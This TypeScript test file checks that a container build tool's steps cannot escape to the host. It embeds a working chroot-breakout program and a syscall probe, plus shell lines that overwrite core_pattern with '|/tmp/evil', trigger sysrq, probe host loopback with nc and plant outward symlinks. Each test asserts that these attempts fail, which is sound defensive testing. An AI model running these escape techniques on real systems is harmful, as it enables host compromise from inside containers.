/**
 * Escapes, tried as an attacker with only a Dockerfile and its build context would: each RUN
 * runs a static probe (or busybox) that attempts one way out of the step and prints what it
 * managed. Every attempt must fail, nothing may be written outside, and the host's state is
 * checked from outside the step, never from the step's own report alone.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import net from 'node:net';
import { spawn, type ChildProcess } from 'node:child_process';
import { makeContext, storeWithBusybox } from '../support/cli.js';
import { buildIn, buildProbe, canBuildStatic } from '../support/probe.js';

const skip = process.getuid?.() !== 0 ? 'needs root' : !canBuildStatic() ? 'needs gcc -static (libc6-dev)' : false;

let root = '';
let ctx = '';
let hostDir = ''; // exists on the host only; a step that sees it has escaped

before(async () => {
  if (skip) return;
  root = await storeWithBusybox();
  ctx = await makeContext({});
  hostDir = await fs.mkdtemp(path.join(os.tmpdir(), 'slipway-host-only-'));
  await buildProbe(ctx, 'breakout', BREAKOUT);
  await buildProbe(ctx, 'syscalls', SYSCALLS);
});

after(async () => {
  for (const d of [root, ctx, hostDir]) if (d) await fs.rm(d, { recursive: true, force: true });
});

// The classic chroot(2) escape: a second chroot below the cwd, then ".." past the root.
const BREAKOUT = `
#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>
#include <fcntl.h>
int main(int argc, char **argv) {
  mkdir("/.x", 0700);
  if (chroot("/.x") != 0) perror("chroot /.x");
  for (int i = 0; i < 64; i++) if (chdir("..") != 0) perror("chdir ..");
  if (chroot(".") != 0) perror("chroot .");
  if (access(argv[1], F_OK) == 0) printf("ESCAPED: sees %s\\n", argv[1]);
  int fd = open(argv[2], O_WRONLY | O_CREAT, 0644);
  if (fd >= 0) { write(fd, "pwned\\n", 6); printf("ESCAPED: wrote %s\\n", argv[2]); }
  else perror("open");
  printf("breakout done\\n");
  return 0;
}`;

// Syscalls a step must not be able to use to reach the host.
const SYSCALLS = `
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <unistd.h>
#include <net/if.h>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
static void report(const char *what, int ok) { printf("%s: %s\\n", what, ok ? "ALLOWED" : strerror(errno)); }
int main(int argc, char **argv) {
  report("mount tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL) == 0);
  report("mount proc", mount("proc", "/mnt", "proc", 0, NULL) == 0);
  report("fsopen", syscall(SYS_fsopen, "tmpfs", 0) >= 0);
  report("unshare user+mount", unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0);
  report("ptrace host pid", ptrace(PTRACE_ATTACH, atoi(argv[1]), 0, 0) == 0);
  report("host pid visible", kill(atoi(argv[1]), 0) == 0);
  int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  unsigned idx = if_nametoindex(argv[2]);
  struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)idx };
  report("packet socket on host interface", s >= 0 && idx > 0 && bind(s, (struct sockaddr *)&sll, sizeof sll) == 0);
  report("keyctl", syscall(SYS_keyctl, 0, 0, 0, 0, 0) >= 0 || errno != EPERM);
  return 0;
}`;

test('a chroot breakout ends inside the step: nothing outside is seen or written', { skip }, async () => {
  const marker = path.join(hostDir, 'pwned');
  const r = await buildIn(root, ctx, `FROM busybox\nCOPY breakout /breakout\nRUN /breakout ${hostDir} ${marker}\n`);
  assert.equal(r.code, 0, r.out);
  assert.match(r.out, /breakout done/);
  assert.doesNotMatch(r.out, /ESCAPED/);
  await assert.rejects(fs.stat(marker), { code: 'ENOENT' });
});

test('kernel settings under /proc cannot be written', { skip }, async () => {
  const before = readFileSync('/proc/sys/kernel/core_pattern', 'utf8');
  const r = await buildIn(root, ctx, 'FROM busybox\n'
    // WR""OTE: the marker must not match the echoed instruction itself, only the command's output.
    + 'RUN (echo "|/tmp/evil" > /proc/sys/kernel/core_pattern && echo WR""OTE-core_pattern) ; '
    + '(echo h > /proc/sysrq-trigger && echo WR""OTE-sysrq) ; (echo 1 > /proc/sys/vm/drop_caches && echo WR""OTE-drop_caches) ; '
    + 'cat /proc/kcore | head -c 1 | wc -c; echo e""nd\n');
  assert.equal(r.code, 0, r.out);
  assert.match(r.out, /^end$/m);
  assert.doesNotMatch(r.out, /WROTE-/);
  assert.equal(readFileSync('/proc/sys/kernel/core_pattern', 'utf8'), before);
});

test('no mount, no new namespaces, no ptrace of a host process, no packet socket on a host interface', { skip }, async () => {
  const sleeper: ChildProcess = spawn('sleep', ['600'], { stdio: 'ignore' });
  const hostIface = (await fs.readdir('/sys/class/net')).find((n) => n !== 'lo') ?? 'eth0';
  try {
    const r = await buildIn(root, ctx, `FROM busybox\nCOPY syscalls /syscalls\nRUN /syscalls ${sleeper.pid} ${hostIface}; mount -t tmpfs x /mnt || echo busybox-mount-denied\n`);
    assert.equal(r.code, 0, r.out);
    for (const what of ['mount tmpfs', 'mount proc', 'fsopen', 'unshare user+mount', 'ptrace host pid', 'host pid visible', 'packet socket on host interface', 'keyctl']) {
      assert.match(r.out, new RegExp(`^${what.replace('+', '\\+')}: (?!ALLOWED)`, 'm'), `${what}\n${r.out}`);
    }
    assert.match(r.out, /busybox-mount-denied/);
    assert.equal(sleeper.exitCode, null, 'the host process is untouched');
  } finally {
    sleeper.kill('SIGKILL');
  }
});

test("the host's loopback services are out of reach (127.0.0.1 and slirp's host alias)", { skip }, async () => {
  let connections = 0;
  const server = net.createServer((s) => { connections++; s.end('secret\n'); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = (server.address() as net.AddressInfo).port;
  try {
    const r = await buildIn(root, ctx, `FROM busybox\nRUN (nc -w 2 127.0.0.1 ${port} </dev/null && echo RE""ACHED-lo) ; (nc -w 2 10.0.2.2 ${port} </dev/null && echo RE""ACHED-alias) ; echo e""nd\n`);
    assert.equal(r.code, 0, r.out);
    assert.match(r.out, /^end$/m);
    assert.doesNotMatch(r.out, /REACHED|secret/);
    assert.equal(connections, 0);
  } finally {
    server.close();
  }
});

test('COPY through symlinks in the image that point out stays inside the rootfs', { skip }, async () => {
  const outside = path.join(hostDir, 'host-etc');
  await fs.writeFile(path.join(ctx, 'payload.txt'), 'payload\n');
  const r = await buildIn(root, ctx, 'FROM busybox\n'
    + `RUN mkdir -p /real && ln -s ${outside} /abs && ln -s ../../../../../..${outside} /rel && ln -s /abs /chain\n`
    + 'COPY payload.txt /abs/a.txt\nCOPY payload.txt /rel/b.txt\nCOPY payload.txt /chain/c/\n'
    + `RUN cat ${outside}/a.txt ${outside}/b.txt ${outside}/c/payload.txt\n`, ['-t', 'links-out']);
  assert.equal(r.code, 0, r.out);
  assert.equal(r.out.match(/^payload$/gm)?.length, 3, r.out);
  await assert.rejects(fs.stat(outside), { code: 'ENOENT' }, 'nothing was written on the host');
});
